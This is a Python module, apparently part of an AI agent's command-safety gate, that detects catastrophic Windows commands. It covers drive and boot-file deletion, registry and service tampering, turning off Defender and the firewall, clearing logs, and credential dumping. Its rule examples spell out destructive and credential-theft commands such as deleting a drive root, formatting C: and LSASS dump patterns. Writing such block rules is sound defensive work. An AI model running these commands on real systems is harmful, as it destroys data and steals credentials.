"""Windows, cmd.exe and the system's own tools: deletion of roots, the registry, boot and recovery,
shadow copies, services, Defender and the firewall, event logs, credential dumping, disks.

What is catastrophic (docs/gate.md): irreversible loss of the machine, a disk, a home directory
or the operating system's security, boot or recovery. Here that is deleting a drive root, the
Windows directory, Program Files, Users or a profile (or everything inside one); deleting the
system hives (HKLM\\SYSTEM, SAM, SECURITY, BCD, the core of HKLM\\SOFTWARE); deleting boot
entries or turning off recovery; deleting shadow copies and backup catalogs; deleting,
stopping or disabling a security, logging or recovery service; turning off Defender or the
firewall (by setting, registry, service or definitions); clearing or disabling event logs;
dumping credentials (LSASS, the SAM/SYSTEM/SECURITY hives, NTDS.dit, saved Wi-Fi keys) or
sending a secret to another host (a BITS upload, a copy onto a remote share); formatting or
cleaning a disk; deleting, moving or overwriting a file Windows boots from (`bootmgr`, `EFI`,
the loader, kernel, HAL, hives); killing every process or one Windows cannot run without
(`csrss`, `wininit`, `lsass`, `svchost`, …); and making anyone an administrator (Guest or
Everyone in Administrators, the built-in Administrator switched on or without a password, an
account created and made an administrator in the same command). Ordinary deletes, other
registry writes, other services, scheduled tasks, other processes and accounts (a named
account made an administrator included) are dangerous: a person decides.

Read-only proofs (option tables, `engine/gate/proof.py`) cover the Windows-only read tools:
`ipconfig`, `tasklist`, `systeminfo`, `reg query`, `sc query`, `netsh … show`, `vssadmin
list`, `bcdedit /enum`, `wmic … get`, `schtasks /query`, `wevtutil el|qe`, … . Programs that
share a name with a Unix tool (`dir`, `type`, `echo`, `whoami`, `hostname`, `tree`, `find`,
`sort`) keep the Unix table; their Windows write forms are rules here (`sort /o`). Also proven:
`powercfg /list|/query|/getactivescheme`, `fsutil fsinfo …|volume diskfree|dirty query`, `pnputil
/enum-…`, `dism /online /get-…`, `winget list|search|show`, `choco list|search|info`, `scoop
list|info|search`, `openfiles /query`, `winver`, and bare `bcdedit` (it lists like `/enum`). Left
out on purpose: `powercfg /batteryreport|/energy|/sleepstudy` (they write reports), `cipher` (`/w`
wipes free space), `nltest` and `dsquery` (directory reconnaissance), `Get-Clipboard`,
`Get-BitLockerVolume` (recovery passwords), and `Test-Connection`, `Resolve-DnsName`, `tracert`
(queries to other hosts). A Windows command proven here by its bare name is safe only because
cmd.exe's programs and scripts in the working directory (`ipconfig.bat`, `whoami.js`) are tool
configuration: the agent cannot plant one without a person.
"""

from __future__ import annotations

import fnmatch
import re

from engine.gate import paths, winpath
from engine.gate.packs.model import CATASTROPHIC, DANGEROUS, IRREVERSIBLE, Pack, Proof, rule
from engine.gate.proof import Options, options
from engine.gate.shell.view import Command

SECURITY_SERVICES = frozenset(
    "windefend wdnissvc wdnisdrv wdfilter wdboot sense securityhealthservice wscsvc mpssvc mpsdrv bfe eventlog"
    " wecsvc sysmon sysmon64 vss swprv wbengine sdrsvc msmpsvc samss keyiso appidsvc"
    " csagent csfalconservice sentinelagent cylancesvc mbamservice".split()
)
VITAL_PROCESSES = frozenset("smss csrss wininit winlogon services lsass lsaiso svchost system registry fontdrvhost".split())
SECURITY_PROCESSES = frozenset(
    "msmpeng nissrv mssense securityhealthservice sense mpdefendercoreservice smartscreen sysmon sysmon64"
    " csfalconservice sentinelagent cylancesvc mbamservice".split()
)
_SECURITY_NAME = re.compile(r"(?i)defender|firewall|security center|event ?log|volume shadow|antivirus|antimalware")
_DISPLAY_NAMES = ("windows defender antivirus service", "microsoft defender antivirus service",
                  "windows defender firewall", "security center", "windows event log", "volume shadow copy")
_HIVES = {"hklm": "hklm", "hkey_local_machine": "hklm", "hkcu": "hkcu", "hkey_current_user": "hkcu",
          "hkcr": "hkcr", "hkey_classes_root": "hkcr", "hku": "hku", "hkey_users": "hku",
          "hkcc": "hkcc", "hkey_current_config": "hkcc"}
_REGISTRY = re.compile(r"(?i)^(?:microsoft\.powershell\.core[\\/])?(?:registry::)?(?:\\\\[^\\/]+[\\/])?"
                       r"(hklm|hkcu|hkcr|hku|hkcc|hkey_local_machine|hkey_current_user|hkey_classes_root|hkey_users"
                       r"|hkey_current_config):?(?:[\\/]+(.*))?$", re.S)
# Keys whose loss leaves Windows unbootable, without its accounts or its security settings
# (under HKLM\SYSTEM everything but another program's own service key).
_SYSTEM_KEYS = re.compile(
    r"hklm(?:/(?:sam|security|bcd00000000)(?:/.*)?)?"
    r"|hklm/software(?:/microsoft(?:/(?:windows|windows nt|windows defender|cryptography|windows/currentversion"
    r"|windows nt/currentversion(?:/winlogon)?|windows/currentversion/policies))?|/classes|/policies"
    r"|/policies/microsoft(?:/windows defender(?:/.*)?|/windows(?:/windowsfirewall(?:/.*)?)?)?)?"
    r"|hkcr|hku(?:/[^/]+)?|hkcu|hkcu/software(?:/microsoft(?:/windows(?:/currentversion)?)?)?"
)
_CONTROL_SET = re.compile(r"(?<=^system/)(?:current)?controlset\d{0,3}")
_SERVICE_KEY = re.compile(r"hklm/system/currentcontrolset/services/([^/]+)(?:/.*)?")
_PROTECTING_VALUES = frozenset({"runasppl", "lsacfgflags", "enablelua", "enablefirewall"})
_ACCESSIBILITY = re.compile(r"(?:sethc|utilman|osk|magnify|narrator|displayswitch|atbroker)\.exe")
_ON = frozenset({"1", "$true", "true", "yes", "on", "0x1", "0x00000001"})
_OFF = frozenset({"0", "$false", "false", "no", "off", "0x0", "0x00000000", "disabled", "disable"})


def registry_key(word: str) -> str | None:
    """A registry path folded to `hklm/system/…` (lower case, `/`), or None when the word is not one."""
    match = _REGISTRY.match(word.strip().strip("'\""))
    if match is None:
        return None
    rest = (match.group(2) or "").replace("\\", "/").lower()
    rest = re.sub(r"/{2,}", "/", rest).strip("/").rstrip("*").rstrip("/")
    rest = _CONTROL_SET.sub("currentcontrolset", rest)
    hive = _HIVES[match.group(1).lower()]
    return hive + ("/" + rest if rest else "")


def system_key(key: str) -> bool:
    """A hive root or a key the system cannot do without (deleting it is catastrophic)."""
    if _SYSTEM_KEYS.fullmatch(key) is not None:
        return True
    if key != "hklm/system" and not key.startswith("hklm/system/"):
        return False
    service = _SERVICE_KEY.fullmatch(key)
    return service is None or service.group(1) in SECURITY_SERVICES


def registry_delete_catastrophic(key: str, value: str | None) -> bool:
    """Deleting `key` (or one of its values) loses the system's configuration, accounts or protection."""
    if value is None:
        return system_key(key)
    return key.startswith(("hklm/sam", "hklm/security")) or value.lower().strip("'\"") in _PROTECTING_VALUES and (
        key.startswith("hklm/"))


def security_value(key: str, name: str, data: str) -> bool:
    """Writing `name = data` under `key` turns off a security control: Defender, the firewall, LSA
    protection, UAC, or hands a SYSTEM shell to the logon screen (an accessibility debugger)."""
    name, data = name.lower().strip("'\""), data.lower().strip("'\"")
    if "windows defender" in key or "microsoft antimalware" in key:
        if name.startswith("disable") and data not in _OFF:
            return True
        if name in ("tamperprotection", "spynetreporting", "mapsreporting") and data in _OFF | {"4"}:
            return True
        if name == "submitsamplesconsent" and data in ("2", "neversend"):
            return True
    service = re.search(r"/services/([^/]+)$", key)
    if service and service.group(1) in SECURITY_SERVICES and name == "start" and data in ("3", "4", "0x4", "0x3"):
        return True
    if ("firewall" in key) and name == "enablefirewall" and data in _OFF:
        return True
    if key.endswith("/control/lsa") and name in ("runasppl", "lsacfgflags") and data in _OFF:
        return True
    if key.endswith("/wdigest") and name == "uselogoncredential" and data in _ON:
        return True
    if key.endswith("/control/lsa") and (name == "limitblankpassworduse" and data in _OFF
                                         or name == "everyoneincludesanonymous" and data in _ON):
        return True
    if key.endswith("policies/system") and name in ("enablelua", "consentpromptbehavioradmin") and data in _OFF:
        return True
    if "image file execution options/" in key and _ACCESSIBILITY.search(key) and name == "debugger":
        return True
    return "/control/safeboot" in key


def security_service(name: str) -> bool:
    """A security, logging or recovery service (by service name or display name, or a wildcard matching one)."""
    text = name.strip().strip("'\"").lower()
    if "*" in text or "?" in text:
        return any(fnmatch.fnmatchcase(candidate, text) for candidate in (*SECURITY_SERVICES, *_DISPLAY_NAMES))
    return text in SECURITY_SERVICES or _SECURITY_NAME.search(text) is not None


def _lower(cmd: Command) -> list[str]:
    return [a.lower() for a in cmd.args]


def _operands(cmd: Command) -> list[str]:
    """Arguments that are not `/x` switches."""
    return [a for a in cmd.args if not (a.startswith("/") and len(a) > 1 and "/" not in a[1:])]


def _switch(cmd: Command, *names: str) -> bool:
    for arg in cmd.args:
        head = arg.lower().split(":", 1)[0]
        if head in names:
            return True
    return False


def _joined(path: str, cwd: str | None) -> str:
    """A relative Windows path read against the directory the script moved to."""
    if cwd is None or winpath.looks_windows(path) and path[1:2] == ":" or path.startswith(("/", "\\", "~", "$")):
        return path
    return cwd.rstrip("/\\") + "/" + path


def root_target(cmd: Command, path: str) -> bool:
    full = _joined(path, cmd.cwd)
    return winpath.is_root(full) or paths.is_root(full)


def contents_target(path: str) -> bool:
    """`C:\\Windows\\*`, `%SystemRoot%\\System32\\*.*`: everything directly inside a root."""
    text = path.replace("\\", "/").rstrip()
    return text.endswith(("/*", "/*.*")) and winpath.is_root(text)


def _cmd_delete_root(cmd: Command) -> str | bool:
    recursive = _switch(cmd, "/s")
    for path in _operands(cmd):
        if recursive and root_target(cmd, path):
            return path
        if cmd.name in ("del", "erase") and contents_target(_joined(path, cmd.cwd)):
            return path
    return False


def _cmd_delete_system(cmd: Command) -> bool:
    return any(winpath.is_system(_joined(p, cmd.cwd)) or paths.is_system(p) for p in _operands(cmd))


def security_log(path: str) -> bool:
    """An event log file or the folder that holds them."""
    folded = winpath.fold(path)
    return "/winevt/logs" in folded or folded.endswith(".evtx") and "/system32/" in folded


def _reg(cmd: Command) -> tuple[str, str | None, list[str]]:
    args = _lower(cmd)
    verb = args[0] if args else ""
    key = registry_key(cmd.args[1]) if len(cmd.args) > 1 else None
    return verb, key, args


def _reg_value(args: list[str], flag: str) -> str:
    for i, arg in enumerate(args):
        if arg == flag and i + 1 < len(args):
            return args[i + 1]
    return ""


def _reg_delete_system(cmd: Command) -> bool:
    verb, key, args = _reg(cmd)
    if verb != "delete" or key is None:
        return False
    value = _reg_value(args, "/v") if "/v" in args else "" if "/ve" in args else None
    return registry_delete_catastrophic(key, value)


def _reg_security(cmd: Command) -> bool:
    verb, key, args = _reg(cmd)
    return verb == "add" and key is not None and security_value(key, _reg_value(args, "/v"), _reg_value(args, "/d"))


def _reg_save(cmd: Command) -> bool:
    verb, key, _ = _reg(cmd)
    return verb in ("save", "export") and key is not None and key.startswith(("hklm/sam", "hklm/system", "hklm/security"))


def _sc_security(cmd: Command) -> bool:
    args = [a for a in _lower(cmd) if not a.startswith("\\\\")]
    if len(args) < 2 or args[0] not in ("stop", "delete", "config", "pause", "failure", "sdset"):
        return False
    if not security_service(args[1]):
        return False
    if args[0] != "config":
        return True
    text = " ".join(args[2:])
    return re.search(r"start=\s*(?:disabled|demand)", text) is not None or "binpath=" in text


def _net_stop_security(cmd: Command) -> bool:
    args = _lower(cmd)
    return len(args) > 1 and args[0] in ("stop", "pause") and security_service(" ".join(args[1:]))


def _vss_resize_small(cmd: Command) -> bool:
    """`vssadmin resize shadowstorage /maxsize=…` small enough to drop the copies it holds."""
    args = _lower(cmd)
    if args[:2] != ["resize", "shadowstorage"]:
        return False
    size = next((a.split("=", 1)[1] for a in args if a.startswith("/maxsize=")), "")
    found = re.fullmatch(r"(\d+(?:\.\d+)?)\s*(%|kb|mb|gb|tb|b)?", size)
    if found is None:
        return size != "unbounded"
    amount, unit = float(found.group(1)), found.group(2) or "b"
    return unit in ("b", "kb", "mb") or unit == "%" and amount < 5 or unit == "gb" and amount < 2


def _bcd_catastrophic(cmd: Command) -> bool:
    args = _lower(cmd)
    if _switch(cmd, "/delete", "/deletevalue"):
        return True
    text = " ".join(args)
    return re.search(r"recoveryenabled\s+(?:no|off|0|false)|bootstatuspolicy\s+ignore|testsigning\s+(?:on|yes)"
                     r"|nointegritychecks\s+(?:on|yes)|disabledynamictick|recoverysequence", text) is not None


def _bcd_changes(cmd: Command) -> bool:
    """Any switch but `/enum`, `/v` and `/store`; bare `bcdedit` lists the entries like `/enum`."""
    return any(a.split(":", 1)[0] not in ("/enum", "/v", "/?", "/store") and a.startswith("/") for a in _lower(cmd))


def _wevtutil_clear(cmd: Command) -> bool:
    args = _lower(cmd)
    if not args:
        return False
    if args[0] in ("sl", "set-log"):
        return any(re.fullmatch(r"/(?:e|enabled):(?:false|0|no)", a) for a in args)
    return args[0] in ("cl", "clear-log", "um", "uninstall-manifest")


_WSL_MOUNT = re.compile(r"/mnt/([a-zA-Z])(?:/(.*))?")
_SC_CHANGES = frozenset("start stop pause continue config create failure sdset control privs sidtype triggerinfo"
                        " description delete".split())


def _service_change(cmd: Command) -> bool:
    args = _lower(cmd)
    if cmd.name == "sc":
        args = [a for a in args if not a.startswith("\\\\")]
        return bool(args) and args[0] in _SC_CHANGES
    return len(args) > 1 and args[0] in ("start", "stop", "pause", "continue")


def _auditpol_off(cmd: Command) -> bool:
    args = _lower(cmd)
    return any(a in ("/clear", "/remove") for a in args) or any(a.startswith("/set") for a in args) and any(
        a in ("/success:disable", "/failure:disable") for a in args)


def _hive_copy(cmd: Command) -> str | bool:
    """A copy of NTDS.dit or of the SAM, SYSTEM or SECURITY hive (live or from a shadow copy)."""
    for arg in cmd.args:
        folded = arg.replace("\\", "/").lower().strip("'\"")
        if folded.endswith("ntds.dit") or re.search(r"(?:^|/)config/(?:sam|system|security)$", folded):
            return arg
    return False


_CREDENTIAL_FILE = re.compile(
    r"(?i)(?:^|[\\/])(?:microsoft[\\/](?:credentials|protect|vault)(?:[\\/]|$)|login data$|cookies$|web data$"
    r"|unattend(?:ed)?\.xml$|sysprep\.(?:xml|inf)$|groups\.xml$|consolehost_history\.txt$|ntuser\.dat$|logins\.json$|key[34]\.db$)")


def _credential_file(cmd: Command) -> str | bool:
    for arg in cmd.args:
        text = arg.strip("'\"")
        if _CREDENTIAL_FILE.search(text) or "historysavepath" in text.lower():
            return arg
    return False


def _lsass_dump(cmd: Command) -> bool:
    text = cmd.text.lower()
    return "lsass" in text and (cmd.name.startswith("procdump") or cmd.name in ("sqldumper", "createdump", "rdrleakdiag",
                                                                                   "dumpert", "nanodump", "ppldump"))


def _comsvcs(cmd: Command) -> bool:
    text = cmd.text.lower()
    return "comsvcs" in text and ("minidump" in text or "#24" in text)


def _ntdsutil(cmd: Command) -> bool:
    text = cmd.text.lower()
    return "ifm" in text or "ac i ntds" in text or "activate instance ntds" in text or "snapshot" in text


def _esentutl(cmd: Command) -> bool:
    return bool(_hive_copy(cmd)) or "/vss" in cmd.text.lower()


def _wifi_keys(cmd: Command) -> bool:
    args = _lower(cmd)
    return "wlan" in args and "key=clear" in args


def _netsh_firewall_off(cmd: Command) -> bool:
    text = " ".join(_lower(cmd))
    return re.search(r"(?:advfirewall\s+set\s+\w{0,20}\s*state\s+off|firewall\s+set\s+opmode\s+(?:mode=)?disable"
                     r"|advfirewall\s+set\s+\w{0,20}\s*firewallpolicy\s+\w{0,20},?allowinbound"
                     r"|firewall\s+set\s+opmode\s+disable)", text) is not None


def _netsh_changes(cmd: Command) -> bool:
    args = _lower(cmd)
    return not any(a in ("show", "dump", "help", "?", "/?") for a in args) and bool(args)


def _format(cmd: Command) -> bool:
    return any(re.fullmatch(r"[a-z]:[\\/]?", a, re.I) or winpath.is_device(a) for a in cmd.args) and "/?" not in cmd.args


def _diskpart_wipe(cmd: Command) -> bool:
    text = ((cmd.stdin or "") + " " + cmd.upstream).lower()
    return re.search(r"\b(?:clean|format|delete\s+(?:partition|volume|disk)|convert|create\s+partition)\b", text) is not None


def _robocopy_purge(cmd: Command) -> bool:
    args = _lower(cmd)
    operands = [a for a in cmd.args if not a.startswith("/")]
    return ("/mir" in args or "/purge" in args) and len(operands) >= 2 and root_target(cmd, operands[1])


def vital_process(name: str) -> bool:
    """Every process (`*`), a process Windows stops without (the session manager, `csrss`, `wininit`,
    `winlogon`, `services`, `lsass`, `svchost`: killing one crashes or reboots the machine), or the
    antivirus; also as a pattern matching one (`svc*`, `*.exe`)."""
    text = name.strip().strip("'\"").lower().removesuffix(".exe")
    if not text:
        return False
    if "*" in text or "?" in text or "%" in text:
        pattern = text.replace("%", "*").replace("_", "?") if "%" in text else text
        return any(fnmatch.fnmatchcase(candidate, pattern) for candidate in (*VITAL_PROCESSES, *SECURITY_PROCESSES))
    return text in VITAL_PROCESSES or text in SECURITY_PROCESSES


# `taskkill /fi` filters every running process passes (or all but a few do): they kill everything.
_EVERY_PROCESS = re.compile(
    r"status\s+(?:eq\s+running|ne\s+(?:not\s+responding|unknown))|pid\s+(?:gt|ge|ne)\s+\d{1,3}|pid\s+(?:lt|le)\s+\d{5,}"
    r"|memusage\s+(?:gt|ge)\s+\d{1,3}|cputime\s+(?:gt|ge)\s+0{1,2}:0{1,2}:0{1,2}|imagename\s+(?:eq\s+\*|ne\s+\S+)"
    r"|username\s+(?:eq\s+(?:nt\s+authority[\\/])?system|ne\s+.+)|session\s+(?:eq|le|lt)\s+[01]|services\s+eq\s+\*"
    r"|modules\s+eq\s+(?:ntdll\.dll|kernel32\.dll|\*)")


def _taskkill_vital(cmd: Command) -> str | bool:
    """`taskkill` of a vital process or the antivirus by name, of every process through filters only
    (`/fi "STATUS eq RUNNING"`), and `pskill` of a vital process."""
    args = _lower(cmd)
    if cmd.name.startswith("pskill"):
        return next((a for a in _operands(cmd) if not a.startswith("-") and vital_process(a)), False)
    names = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "/im"]
    found = next((name for name in names if vital_process(name)), None)
    if found is not None:
        return found
    filters = [args[i + 1].strip('"') for i, a in enumerate(args[:-1]) if a == "/fi"]
    if names or "/pid" in args or not filters:
        return False
    return "/fi " + filters[0] if all(_EVERY_PROCESS.fullmatch(f.strip()) for f in filters) else False


_WMIC_WHERE = re.compile(r"(?is)\bwhere\b\s*(.{0,400}?)\s*(?:\bdelete\b|\bcall\b|$)")
_EVERYTHING = re.compile(r"(?is)name\s+like\s+['\"]?%['\"]?|(?:processid|handle)\s*(?:>|>=|<>|!=)\s*['\"]?\d{1,3}['\"]?"
                         r"|(?:executablepath|commandline)\s+like\s+['\"]?[^'\"%]{0,8}%['\"]?"
                         r"|(?:name|caption)\s*(?:<>|!=)\s*['\"]?[\w.]+['\"]?|1\s*=\s*1")
_NAMED = re.compile(r"(?is)(?:name|caption|executablepath)\s*(?:=|like)\s*['\"]?([^'\"\s)]{1,200})")


def _wmic_kill(cmd: Command) -> str | bool:
    """`wmic process [where …] delete|call terminate`: every process (no `where`, or a clause all of them pass,
    `name like '%'`) or a vital one (`where name="lsass.exe"`)."""
    args = _lower(cmd)
    words = [a for a in args if not a.startswith("/")]
    if not words or words[0] != "process" or not ("delete" in words or "terminate" in words):
        return False
    text = " ".join(cmd.args)
    where = _WMIC_WHERE.search(text)
    if where is None or not where.group(1).strip():
        return "wmic process " + ("delete" if "delete" in words else "call terminate")
    clause = where.group(1).strip().strip("\"'()")
    if _EVERYTHING.search(clause):
        return clause
    named = _NAMED.findall(clause)
    return next((name for name in named if vital_process(name)), False)


def _wmic_delete(cmd: Command) -> bool:
    args = _lower(cmd)
    return "shadowcopy" in args and "delete" in args


def _wbadmin(cmd: Command) -> bool:
    args = _lower(cmd)
    return len(args) > 1 and args[0] == "delete" and args[1] in ("catalog", "systemstatebackup", "backup")


def _mpcmdrun(cmd: Command) -> bool:
    return any(a in ("-removedefinitions", "/removedefinitions") for a in _lower(cmd)) and "-dynamicsignatures" not in _lower(cmd)


def _dism_defender(cmd: Command) -> bool:
    text = cmd.text.lower()
    return ("/disable-feature" in text or "/remove-package" in text) and "defender" in text


def _sdelete_root(cmd: Command) -> bool:
    return any(root_target(cmd, a) for a in cmd.args if not a.startswith("-"))


def _sort_output(cmd: Command) -> bool:
    return any(a.lower().startswith(("/o", "/output")) for a in cmd.args)


_DATE_VALUES = frozenset({"-d", "--date", "-f", "--file", "-r", "--reference", "--rfc-3339"})


def _sets_clock(cmd: Command) -> bool:
    """`date 01-01-2020` (cmd.exe), `date 0101000020` and `date -s …`/`--set=…` (GNU): a word that is
    neither an option, `+FORMAT`, a switch nor the value of `-d`, `-f` or `-r` sets the clock."""
    args = cmd.args
    i = 0
    while i < len(args):
        word = args[i]
        i += 1
        if word == "--set" or word.startswith("--set="):
            return True
        if word in _DATE_VALUES:
            i += 1
        elif word[:1] == "-" and word[1:2] not in ("-", ""):
            for j, letter in enumerate(word[1:], 1):
                if letter == "s":
                    return True
                if letter in "dfrI":
                    i += letter != "I" and j == len(word) - 1
                    break
        elif not word.startswith(("-", "+", "/")):
            return True
    return False


# Principals anyone can be: the built-in Guest, Everyone, every user, anonymous and network logons (by name or SID).
_ANYONE = frozenset({"guest", "guests", "everyone", "users", "authenticated users", "nt authority\\authenticated users",
                     "anonymous logon", "nt authority\\anonymous logon", "interactive", "nt authority\\interactive",
                     "network", "nt authority\\network", "domain users", "domain guests", "builtin\\users",
                     "builtin\\guests", "s-1-1-0", "s-1-5-11", "s-1-5-7", "s-1-5-4", "s-1-5-2", "s-1-5-32-545",
                     "s-1-5-32-546"})
_ADMIN_GROUPS = frozenset({"administrators", "builtin\\administrators", "s-1-5-32-544", "domain admins",
                           "enterprise admins", "schema admins"})
_BUILT_IN = frozenset({"administrator", "guest", "defaultaccount"})


def anyone(principal: str) -> bool:
    """A principal anyone can act as (Guest, Everyone, Users, anonymous logons), by name or SID."""
    text = principal.strip().strip("'\"").lower().replace("/", "\\").lstrip("*")
    return text in _ANYONE or text.rsplit("\\", 1)[-1] in ("guest", "everyone") or text.endswith("-501")


def admin_group(group: str) -> bool:
    text = group.strip().strip("'\"").lower().replace("/", "\\").lstrip("*")
    return text in _ADMIN_GROUPS


def _net_admin_anyone(cmd: Command) -> str | bool:
    """`net localgroup administrators Guest /add` (anyone becomes an administrator), a blank password on
    the built-in Administrator or Guest (`net user Administrator ""`), the built-in Administrator switched on
    (it has no password on a default installation), or Guest switched on with a password the command shows."""
    args = _lower(cmd)
    if len(args) < 2:
        return False
    positional = [a for a in args[1:] if not a.startswith("/")]
    switches = [a for a in args[1:] if a.startswith("/")]
    if args[0] in ("localgroup", "group") and "/add" in switches and positional and admin_group(positional[0]):
        return next((member for member in positional[1:] if anyone(member)), False)
    if cmd.name == "wmic":
        text = " ".join(args)
        return "administrator switched on" if re.search(
            r"useraccount\b.{0,80}name\s*=\s*['\"]?administrator\b.{0,80}\bset\b.{0,80}disabled\s*=\s*['\"]?false", text) else False
    if args[0] == "user" and positional and positional[0] in _BUILT_IN:
        password = positional[1] if len(positional) > 1 else None
        if password == "" or "/passwordreq:no" in switches:
            return positional[0] + " with no password"
        if "/active:yes" in switches and (positional[0] == "administrator" or password not in (None, "*")):
            return positional[0] + " switched on"
    return False


def account_changes(name: str, args: list[str]) -> tuple[str | None, list[str]]:
    """What an account command does for the backdoor check: the account it creates or switches on
    (`net user x P /add`, `net user guest /active:yes`, `New-LocalUser x`, `Enable-LocalUser Guest`),
    and the members it adds to an administrators group."""
    lower = [a.lower().strip("'\"") for a in args]
    positional = [a for a in lower if a and not a.startswith(("/", "-"))]
    if name in ("net", "net1") and positional:
        if positional[0] == "user" and len(positional) > 1 and ("/add" in lower or "/active:yes" in lower):
            return positional[1], []
        if positional[0] in ("localgroup", "group") and "/add" in lower and len(positional) > 2 and admin_group(positional[1]):
            return None, positional[2:]
        return None, []
    if name in ("new-localuser", "enable-localuser", "new-aduser", "enable-adaccount"):
        for i, arg in enumerate(lower):
            if arg in ("-name", "-n", "-identity") and i + 1 < len(lower):
                return lower[i + 1], []
        return (positional[0] if positional else None), []
    if name in ("add-localgroupmember", "add-adgroupmember"):
        group, i = "", 0
        members: list[str] = []
        while i < len(lower):
            arg = lower[i]
            if arg.startswith("-") and i + 1 < len(lower):
                if "group".startswith(arg[1:]) or "identity".startswith(arg[1:]) or arg in ("-name", "-sid", "-n"):
                    group = lower[i + 1]
                elif "member".startswith(arg[1:]) or "members".startswith(arg[1:]):
                    members.extend(m.strip() for m in lower[i + 1].split(",") if m.strip())
                i += 2
                continue
            if not group:
                group = arg
            else:
                members.extend(m.strip() for m in arg.split(",") if m.strip())
            i += 1
        return None, members if admin_group(group) else []
    return None, []


def remote_share(word: str) -> bool:
    """A path on another computer's share (`\\\\203.0.113.5\\share\\x`), not this machine's (`\\\\localhost\\c$`)
    nor a device or long-path prefix (`\\\\?\\C:\\`)."""
    found = re.match(r"[\\/]{2}([^\\/?.][^\\/]{0,252})[\\/]", word.strip().strip("'\""))
    if found is None:
        return False
    host = found.group(1).lower()
    return host not in ("localhost", "::1", "0.0.0.0") and not host.startswith("127.") and host != "%computername%"


def _upload_secret(cmd: Command) -> str | bool:
    """A secret sent to another host by a Windows tool: `bitsadmin /transfer … /upload URL FILE`, or a
    credential file copied onto another computer's share."""
    operands = [a for a in cmd.args if not (a[:1] in "/-" and len(a) > 1 and not a.startswith(("//", "\\")))]
    if cmd.name == "bitsadmin":
        if "/upload" not in _lower(cmd):
            return False
        return next((a for a in operands if paths.may_be_secret(a)), False)
    if not any(remote_share(a) for a in operands):
        return False
    return next((a for a in operands if not remote_share(a) and paths.may_be_secret(_joined(a, cmd.cwd))), False)


_DELETE_NAMES = "del erase rd rmdir"
# Copiers overwrite their last operand; the other file commands change every path they are given.
_COPIERS = frozenset({"copy", "xcopy", "robocopy"})


def _boot_file(cmd: Command) -> str | bool:
    """A boot file or folder deleted, renamed, moved away or overwritten (`del /a C:\\bootmgr`, `ren
    …\\winload.efi x`, `move …\\ntoskrnl.exe`, `copy /y x C:\\Windows\\System32\\hal.dll`)."""
    operands = [p for p in _operands(cmd) if not p.startswith("-")]
    if cmd.name in _COPIERS:
        operands = operands[-1:] if len(operands) > 1 else []
    for path in operands:
        if winpath.is_boot(_joined(path, cmd.cwd)):
            return path
    return False


RULES = [
    rule("win.delete-drive", CATASTROPHIC, "windows fs",
         "recursively deletes a drive root, the Windows directory, Program Files, Users or a profile",
         names=_DELETE_NAMES, tier=IRREVERSIBLE, test=_cmd_delete_root, cite=True,
         examples=["del /s /q C:\\", "rd /s /q C:\\Windows", "rd /s /q %SystemRoot%", "rd/s/q \"C:\\\"",
                   "del /f /s /q %USERPROFILE%\\*", "rmdir /s /q %windir%\\System32\\config\\",
                   "del /q %SystemRoot%\\System32\\*.*", "for /d %i in (C:\\*) do rd /s /q \"%i\""],
         counter=["del /q build\\out.txt", "rd /s /q build", "rd /s /q %TEMP%\\cache"]),
    rule("win.boot-file", CATASTROPHIC, "windows fs evasion",
         "deletes, moves or overwrites a file Windows needs to boot (boot manager, loader, kernel, hives)",
         names=_DELETE_NAMES + " ren rename move copy xcopy robocopy", tier=IRREVERSIBLE, test=_boot_file, cite=True,
         examples=["del /f /a C:\\bootmgr", "rd /s /q S:\\EFI\\Microsoft\\Boot", "ren C:\\Windows\\System32\\winload.efi x",
                   "erase %SystemRoot%\\System32\\hal.dll", "move C:\\Windows\\System32\\ntoskrnl.exe C:\\temp\\",
                   "copy /y evil.dll C:\\Windows\\System32\\hal.dll", "del %SystemRoot%\\System32\\config\\SYSTEM"],
         counter=["del C:\\Windows\\Temp\\boot.log", "copy C:\\bootmgr C:\\backup\\bootmgr", "rd /s /q build\\boot"]),
    rule("win.boot-file-write", CATASTROPHIC, "windows fs evasion", "overwrites a file Windows needs to boot",
         scope="redirect", tier=IRREVERSIBLE, test=lambda c: any(winpath.is_boot(t) for t in c.out_targets()),
         examples=["type nul > C:\\bootmgr", "echo x > %SystemRoot%\\System32\\winload.exe"],
         counter=["echo x > C:\\temp\\boot.txt"]),
    rule("win.delete-system", DANGEROUS, "windows fs", "deletes files under the Windows directory or Program Files",
         names=_DELETE_NAMES, tier=IRREVERSIBLE, test=_cmd_delete_system,
         examples=["del C:\\Windows\\Temp\\x.log"], counter=["del x.log"]),
    rule("win.delete", DANGEROUS, "windows fs", "deletes files", names="del erase rd",
         examples=["del /q file.txt", "rd build"], counter=["dir"]),
    rule("win.delete-log", CATASTROPHIC, "windows evasion", "deletes the Windows event logs",
         names=_DELETE_NAMES + " remove-item", tier=IRREVERSIBLE,
         test=lambda c: any(security_log(_joined(a, c.cwd)) for a in c.args),
         examples=["del /f /q %SystemRoot%\\System32\\winevt\\Logs\\Security.evtx"], counter=["del app.evtx"]),
    rule("win.robocopy-purge", CATASTROPHIC, "windows fs", "robocopy /MIR or /PURGE deletes everything in a root it mirrors onto",
         names="robocopy", tier=IRREVERSIBLE, test=_robocopy_purge,
         examples=["robocopy C:\\empty C:\\Windows /MIR", "robocopy empty %USERPROFILE% /PURGE"],
         counter=["robocopy src dst /MIR"]),
    rule("win.robocopy", DANGEROUS, "windows fs", "copies or mirrors directory trees (/MIR deletes)", names="robocopy xcopy",
         examples=["robocopy src dst /MIR"], counter=["dir"]),
    rule("win.format", CATASTROPHIC, "windows fs", "formats a disk or volume", names="format", tier=IRREVERSIBLE,
         test=_format, examples=["format C: /q", "format D: /FS:NTFS /Q /Y"], counter=["format /?"]),
    rule("win.diskpart-wipe", CATASTROPHIC, "windows fs", "diskpart is fed commands that clean, format or delete a disk",
         names="diskpart", tier=IRREVERSIBLE, test=_diskpart_wipe,
         examples=["(echo select disk 0 & echo clean) | diskpart"], counter=["diskpart /?"]),
    rule("win.diskpart-script", CATASTROPHIC, "windows fs", "a diskpart script that cleans, formats or deletes is written and run",
         raw="always", needles="diskpart", tier=IRREVERSIBLE,
         args=r"(?is)\b(?:clean|format|delete\s{1,4}(?:partition|volume|disk))\b.{0,400}\bdiskpart\b",
         examples=["echo select disk 0 > wipe.txt & echo clean all >> wipe.txt & diskpart /s wipe.txt"],
         counter=["diskpart /s list.txt"]),
    rule("win.diskpart", DANGEROUS, "windows fs", "runs diskpart (partitions and volumes)", names="diskpart",
         tier=IRREVERSIBLE, examples=["diskpart /s script.txt"], counter=["dir"]),
